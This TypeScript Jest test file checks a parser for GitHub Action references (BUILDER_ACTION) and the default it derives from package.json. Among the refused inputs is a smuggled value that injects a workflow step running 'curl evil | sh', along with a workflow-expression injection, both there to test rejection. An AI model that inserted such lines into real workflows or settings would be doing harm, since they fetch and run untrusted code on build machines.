/**
 * BUILDER_ACTION (src/config/builder-action.ts): what it accepts (GitHub's `{owner}/{repo}[/{path}]@{ref}`,
 * GitHub's name rules, git's ref rules), what it refuses with a message naming the setting, and the default
 * derived from package.json's `repository` and `version`.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "@jest/globals";
import {
  builderActionFromEnv,
  defaultBuilderAction,
  InvalidBuilderActionError,
  parseBuilderAction,
  projectRoot,
  readPackageManifest,
} from "../../src/config/builder-action.js";

const SHA = "0123456789abcdef0123456789abcdef01234567";

describe("parseBuilderAction", () => {
  it.each([
    [
      "octo-org/arch-repo-bot/action@v1",
      { owner: "octo-org", repo: "arch-repo-bot", path: "action", ref: "v1" },
    ],
    ["me/arb@main", { owner: "me", repo: "arb", ref: "main" }],
    [`a/b.c_d-e/x/y.z@${SHA}`, { owner: "a", repo: "b.c_d-e", path: "x/y.z", ref: SHA }],
    ["emu-user_corp/r@release/1.x", { owner: "emu-user_corp", repo: "r", ref: "release/1.x" }],
    [`${"o".repeat(39)}/${"r".repeat(100)}@v1.2.3+build`, { owner: "o".repeat(39), ref: "v1.2.3+build" }],
  ])("accepts %s", (value, parts) => {
    const action = parseBuilderAction(value);
    expect(action).toMatchObject(parts);
    expect(action.uses).toBe(value);
  });

  it.each([
    ["", /has no @REF/],
    ["octo/arch-repo-bot/action", /has no @REF/],
    ["octo/arch-repo-bot@", /invalid ref ""/],
    ["OWNER/arch-repo-bot/action@v1", /placeholder owner OWNER/],
    ["./action@v1", /invalid owner "\."/],
    ["docker://alpine@3", /invalid owner "docker:"/],
    ["-octo/r@v1", /invalid owner/],
    ["octo-/r@v1", /invalid owner/],
    [`${"o".repeat(40)}/r@v1`, /invalid owner/],
    ["octo@v1", /invalid repository name ""/],
    ["octo/../x@v1", /invalid repository name "\.\."/],
    [`octo/${"r".repeat(101)}@v1`, /invalid repository name/],
    ["octo/r/../x@v1", /invalid path segment "\.\."/],
    ["octo/r//x@v1", /invalid path segment ""/],
    ["octo/r@v1 ", /invalid ref/],
    ["octo/r@v 1", /invalid ref/],
    ["octo/r@v1#x", /invalid ref/],
    ["octo/r@a:b", /invalid ref/],
    ["octo/r@'v1'", /invalid ref/],
    ["octo/r@main\n        run: curl evil | sh", /invalid ref/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a workflow expression, refused
    ["octo/r@${{ inputs.ref }}", /invalid ref/],
    ["octo/r@a..b", /may not contain \.\./],
    ["octo/r@-v1", /may not start with -/],
    ["octo/r@v1.", /may not end/],
    ["octo/r@v1/", /may not end/],
    ["octo/r@x.lock", /\.lock/],
    ["octo/r@a/.b", /starting with \./],
  ])("refuses %j", (value, why) => {
    expect(() => parseBuilderAction(value)).toThrow(InvalidBuilderActionError);
    expect(() => parseBuilderAction(value)).toThrow(why);
    // The message names the setting and the expected format.
    expect(() => parseBuilderAction(value)).toThrow(/^BUILDER_ACTION .*expected OWNER\/REPO\[\/PATH\]@REF/s);
  });
});

describe("the default from package.json", () => {
  it.each([
    ["octo/arch-repo-bot", "octo/arch-repo-bot/action@v1"],
    ["github:octo/arch-repo-bot", "octo/arch-repo-bot/action@v1"],
    [{ type: "git", url: "git+https://github.com/octo/arch-repo-bot.git" }, "octo/arch-repo-bot/action@v1"],
    [{ type: "git", url: "https://github.com/octo/arch-repo-bot" }, "octo/arch-repo-bot/action@v1"],
    [{ type: "git", url: "git@github.com:octo/arch-repo-bot.git" }, "octo/arch-repo-bot/action@v1"],
    [
      { url: "git+ssh://git@github.com/octo/mono.git", directory: "apps/arb" },
      "octo/mono/apps/arb/action@v1",
    ],
  ])("is this project's action at v<major>: %j", (repository, uses) => {
    expect(defaultBuilderAction({ repository, version: "1.4.2" })?.uses).toBe(uses);
  });

  it("follows the major version", () => {
    expect(defaultBuilderAction({ repository: "octo/arb", version: "0.1.0" })?.uses).toBe(
      "octo/arb/action@v0",
    );
    expect(defaultBuilderAction({ repository: "octo/arb", version: "12.0.0-rc.1" })?.uses).toBe(
      "octo/arb/action@v12",
    );
  });

  it.each([
    [{ version: "1.0.0" }],
    [{ repository: "https://gitlab.com/octo/arb.git", version: "1.0.0" }],
    [{ repository: { type: "git" }, version: "1.0.0" }],
    [{ repository: "octo/arb" }],
    [{ repository: "octo/arb", version: "latest" }],
    [{ repository: "-bad/arb", version: "1.0.0" }],
  ])("cannot be derived from %j", (manifest) => {
    expect(defaultBuilderAction(manifest)).toBeUndefined();
  });

  it("is read from this project's package.json, found from src/ and from dist/src/ alike", () => {
    const root = projectRoot();
    expect(readPackageManifest(root)).toMatchObject({ version: expect.any(String) });
    expect(projectRoot(join(root, "dist", "src", "handlers", "deps.js"))).toBe(root);
    const elsewhere = mkdtempSync(join(tmpdir(), "arb-root-"));
    try {
      writeFileSync(join(elsewhere, "package.json"), JSON.stringify({ name: "something-else" }));
      expect(() => projectRoot(join(elsewhere, "src", "x.js"))).toThrow(/no package.json of arch-repo-bot/);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });
});

describe("builderActionFromEnv", () => {
  const published = { repository: "octo/arch-repo-bot", version: "1.0.0" };

  it("takes BUILDER_ACTION when set (trimmed), over the default", () => {
    expect(builderActionFromEnv({ BUILDER_ACTION: ` me/fork/action@${SHA} ` }, published).uses).toBe(
      `me/fork/action@${SHA}`,
    );
  });

  it("without BUILDER_ACTION (or with it empty) uses the default", () => {
    expect(builderActionFromEnv({}, published).uses).toBe("octo/arch-repo-bot/action@v1");
    expect(builderActionFromEnv({ BUILDER_ACTION: "  " }, published).uses).toBe(
      "octo/arch-repo-bot/action@v1",
    );
  });

  it("refuses an invalid BUILDER_ACTION even when a default exists", () => {
    expect(() => builderActionFromEnv({ BUILDER_ACTION: "octo/r@v1 # x" }, published)).toThrow(
      /^BUILDER_ACTION has an invalid ref/,
    );
  });

  it("refuses when unset and no default can be derived, naming the setting", () => {
    expect(() => builderActionFromEnv({}, { version: "0.1.0" })).toThrow(InvalidBuilderActionError);
    expect(() => builderActionFromEnv({}, { version: "0.1.0" })).toThrow(
      /^BUILDER_ACTION is not set, and no default can be derived \(package.json names no GitHub repository\): set BUILDER_ACTION/,
    );
  });
});
